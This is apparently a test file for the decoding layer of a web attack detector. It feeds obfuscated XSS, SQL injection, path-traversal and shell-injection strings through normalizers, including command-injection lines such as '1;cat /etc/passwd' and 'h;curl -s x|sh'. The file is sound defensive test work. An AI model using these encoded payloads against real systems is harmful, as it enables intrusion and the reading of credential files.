import { describe, expect, it } from 'vitest'
import {
  base64Text,
  decodeEntities,
  decodeForDisplay,
  decodeForMatch,
  foldShell,
  foldSql,
  multipartFields,
  notBase64,
  percentDecode,
} from './decode'

describe('decodeForMatch', () => {
  it.each([
    ['%253Cscript%253E', '<script>'],
    ['a+b%20c', 'a b c'],
    // a + that decoding produced is a plus sign; only the one sent means a space
    ['%22o%22%2B%22s%22', '"o"+"s"'],
    ['1%252B1', '1+1'],
    ['%u003Cimg%u003E', '<img>'],
    ['%c0%af%c0%ae%c0%ae', '/..'],
    ['%e0%80%ae%e0%80%ae/', '../'],
    ['&lt;svg&gt;', '<svg>'],
    ['&#60;&#x3C;&#0000060', '<<<'],
    ['&lt;b&gt', '<b>'],
    ['\\u003cscript\\x3e', '<script>'],
    ['ＳＥＬＥＣＴ　１', 'select 1'],
    ['un%00ion', 'union'],
    ['%E3%83%88%E3%83%A8%E3%82%BF', 'トヨタ'],
    // IIS/ASP drops a `%` that starts no escape: the percentage tamper
    ['1%20%O%R%D%E%R%20%B%Y%20%9', '1 order by 9'],
    ['1%20%O%R%20%1%=%1', '1 %o%r %1%=%1'], // too few to be the tamper
    ['%S%E%L%E%C%T%20%@%@%v%e%r%s%i%o%n', 'select @@version'],
    ['x%bq%bqetc%bq%bqshadow', 'x%bq%bqetc%bq%bqshadow'], // junk escapes a fuzzer puts between dots
    // percentages in text are kept
    ['up 5% today, 3% ytd', 'up 5% today, 3% ytd'],
    ['100%25 of 3%x', '100% of 3%x'],
    ['%%32%%65%%32%%65%%32%%66', '%2%e%2%e%2%f'],
  ])('%s → %s', (raw, want) => {
    expect(decodeForMatch(raw)).toBe(want)
  })

  it('stops after a bounded number of rounds', () => {
    let s = '<'
    for (let i = 0; i < 10; i++) s = encodeURIComponent(s)
    expect(decodeForMatch(s)).not.toBe('<')
  })

  it('leaves + alone when asked (paths)', () => {
    expect(percentDecode('a+b', false)).toBe('a+b')
  })

  it('keeps unknown entities and decodes known ones without semicolons', () => {
    expect(decodeEntities('AT&T &amp R&D &colon')).toBe('AT&T & R&D :')
  })
})

describe('foldSql', () => {
  it('removes inline and versioned comments and folds whitespace', () => {
    expect(foldSql('1/**/union/*!50000select*/  2')).toBe('1 union select 2')
    expect(foldSql('a /* x */ b')).toBe('a b')
  })
})

describe('decodeForDisplay', () => {
  it('decodes like the matcher but keeps the case an officer should read', () => {
    const raw = '%253CScRiPt%253Ealert(1)%253C%252FScRiPt%253E'
    expect(decodeForDisplay(raw)).toBe('<ScRiPt>alert(1)</ScRiPt>')
    expect(decodeForMatch(raw)).toBe(decodeForDisplay(raw).toLowerCase())
  })
})

describe('foldShell', () => {
  it('undoes the quoting a shell removes inside a word', () => {
    expect(foldShell('1;c\\at /e\\tc/pa\\sswd')).toBe('1;cat /etc/passwd')
    expect(foldShell("9|w'h'o'am'i")).toBe('9|whoami')
    expect(foldShell('x&&who""ami')).toBe('x&&whoami')
  })
  it("expands bash's ANSI-C quoting and unquotes a quoted word", () => {
    expect(foldShell("h;$'\\x63\\x75\\x72\\x6c' -s x|$'sh'")).toBe('h;curl -s x|sh')
    expect(foldShell("h;$'\\143\\141\\164' /etc/hosts")).toBe('h;cat /etc/hosts')
    expect(foldShell('h;"id";$"uname" -a')).toBe('h;id;uname -a')
  })
  it('reads $IFS as the space it stands for, and drops cmd.exe carets inside a word', () => {
    expect(foldShell("1;c'a't$ifs/e\"t\"c/pa''sswd")).toBe('1;cat /etc/passwd')
    expect(foldShell('1;cat${ifs}/etc/hosts')).toBe('1;cat /etc/hosts')
    expect(foldShell('x & w^h^o^a^m^i > out.txt')).toBe('x & whoami > out.txt')
    expect(foldShell('price ^ 2 and 3^x')).toBe('price ^ 2 and 3x')
  })
  it('keeps \\n and \\r (read as escaped line breaks) and leaves plain text alone', () => {
    expect(foldShell('a\\nid')).toBe('a\\nid')
    expect(foldShell('rebalance; see ticket')).toBe('rebalance; see ticket')
  })
})

describe('base64Text', () => {
  it('reads base64 (standard or URL-safe, percent-encoded or not) of text', () => {
    expect(base64Text('QUNDLTknIE9SICd6Jz0neg%3D%3D')).toBe("ACC-9' OR 'z'='z")
    expect(base64Text('PHN2ZyBvbmxvYWQ9YWxlcnQoMSk-')).toBe('<svg onload=alert(1)>')
  })
  it('leaves binary blobs, words and short values alone', () => {
    expect(base64Text('AAECAwQFBgcICQoLDA0ODxAREhM=')).toBeNull()
    expect(base64Text('reconciliationsummary')).toBeNull()
    expect(base64Text('YWJj')).toBeNull()
  })
})

describe('notBase64', () => {
  // What base64Text requires of the once percent-decoded value (its BASE64_VALUE).
  const BASE64_VALUE = /^[A-Za-z0-9+/_-]{16,8192}={0,2}$/
  const PIECES = [
    'A',
    'z',
    '9',
    'Q',
    '+',
    '/',
    '_',
    '-',
    '=',
    '%',
    '%3D',
    '%3d',
    '%2B',
    '%2F',
    '%2f',
    '%3A',
    '%25',
    '%41',
    '%7a',
    '%5F',
    '%2d',
    '%7e',
    '%20',
    '%00',
    '%7F',
    '%80',
    '%c0%af',
    '%C1%9C',
    '%c0',
    '%e0%80%ae',
    '%u002F',
    '%u003A',
    '%U0041',
    '%uD83D',
    '%4',
    '%zz',
    '%%',
    '.',
    ',',
    ':',
    ' ',
    'é',
    '\ufffd',
    '&',
  ]

  it('is true only for values whose percent-decoded form cannot be base64', () => {
    let seed = 7203
    const rand = (n: number): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0
      return (seed >>> 8) % n
    }
    let rejected = 0
    for (let k = 0; k < 30_000; k++) {
      let s = ''
      const parts = 4 + rand(30)
      for (let j = 0; j < parts; j++)
        s +=
          rand(3) === 0 ? (PIECES[rand(PIECES.length)] ?? '') : 'QWxhZGRpbjpvcGVu'.charAt(rand(16))
      if (notBase64(s)) {
        rejected++
        expect(BASE64_VALUE.test(percentDecode(s, false)), s).toBe(false)
        expect(base64Text(s), s).toBeNull()
      }
    }
    expect(rejected).toBeGreaterThan(5_000)
  })

  it('rejects ordinary values and lets base64 through to the full check', () => {
    for (const v of ['7203.T,6758.T,9984.T', '2026-11-25T00%3A00%3A00Z', "o'brien street", 'a%25b'])
      expect(notBase64(v), v).toBe(true)
    for (const v of [
      'QUNDLTknIE9SICd6Jz0neg%3D%3D',
      'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk-',
      'a%2Fb%c0%af',
      '%',
    ])
      expect(notBase64(v), v).toBe(false)
  })
})

describe('multipartFields', () => {
  it('splits a multipart/form-data body into named fields and file names', () => {
    const body =
      '--b1\r\nContent-Disposition: form-data; name="memo"\r\n\r\nhello\r\n--b1\r\nContent-Disposition: form-data; name="doc"; filename="a b.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF\r\n--b1--\r\n'
    expect(multipartFields(body, 'multipart/form-data; boundary=b1')).toEqual([
      { name: 'memo', filename: null, contentType: '', value: 'hello' },
      { name: 'doc', filename: 'a b.pdf', contentType: 'application/pdf', value: '%PDF' },
    ])
    expect(multipartFields('x=1', 'multipart/form-data')).toBeNull()
  })
})
